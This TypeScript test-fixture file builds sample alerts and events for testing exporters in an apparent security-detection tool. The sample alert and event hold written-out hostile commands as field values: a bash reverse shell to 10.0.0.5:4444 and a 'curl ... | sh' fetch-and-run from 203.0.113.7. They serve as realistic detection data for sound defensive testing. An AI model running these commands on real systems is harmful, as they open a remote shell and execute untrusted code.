// Sample alerts and events for exporter tests, with text that stresses every format's escaping.
// Test support only: never used by exporters.

import { randomUUID } from 'node:crypto';
import type { AlertLevel, ExportAlert, ExportEvent, ExportRecord } from '../core.js';

/** Quotes, backslashes, brackets, pipes, equals signs and non-ASCII: everything the formats must escape, no line breaks. */
export const HOSTILE_TEXT = 'Reverse "shell" ] [x] | a=b \\ C:\\tmp\\ ünïcødé ✓';

export function sampleAlert(overrides: Partial<ExportAlert> = {}): ExportAlert {
  const now = new Date().toISOString();
  return {
    id: randomUUID(),
    ruleId: 'c1f4a7e0-0000-4000-8000-000000000001',
    ruleTitle: 'Reverse shell via bash',
    level: 'high' as AlertLevel,
    kind: 'sigma',
    tags: ['attack.execution', 'attack.t1059.004'],
    hostId: 'host-1',
    processKey: 'proc-42',
    firstSeen: now,
    lastSeen: now,
    count: 1,
    eventIds: [randomUUID()],
    fields: [
      { field: 'process.command_line', value: 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1' },
      { field: 'process.pid', value: 4242 },
      { field: 'process.name', value: 'bash' },
      { field: 'user.name', value: 'www-data' },
      { field: 'destination.ip', value: '10.0.0.5' },
      { field: 'destination.port', value: 4444 },
    ],
    createdAt: now,
    ...overrides,
  };
}

export function sampleEvent(overrides: Record<string, unknown> = {}): ExportEvent {
  return {
    '@timestamp': new Date().toISOString(),
    'event.id': randomUUID(),
    'event.sequence': 1,
    'event.category': 'process',
    'event.action': 'start',
    'event.ingested': new Date().toISOString(),
    'host.id': 'host-1',
    'process.pid': 777,
    'process.name': 'curl',
    'process.command_line': 'curl -s http://203.0.113.7/x | sh',
    'user.name': 'root',
    ...overrides,
  };
}

export const alertRecord = (overrides: Partial<ExportAlert> = {}): ExportRecord => ({ type: 'alert', alert: sampleAlert(overrides) });
export const eventRecord = (overrides: Record<string, unknown> = {}): ExportRecord => ({ type: 'event', event: sampleEvent(overrides) });
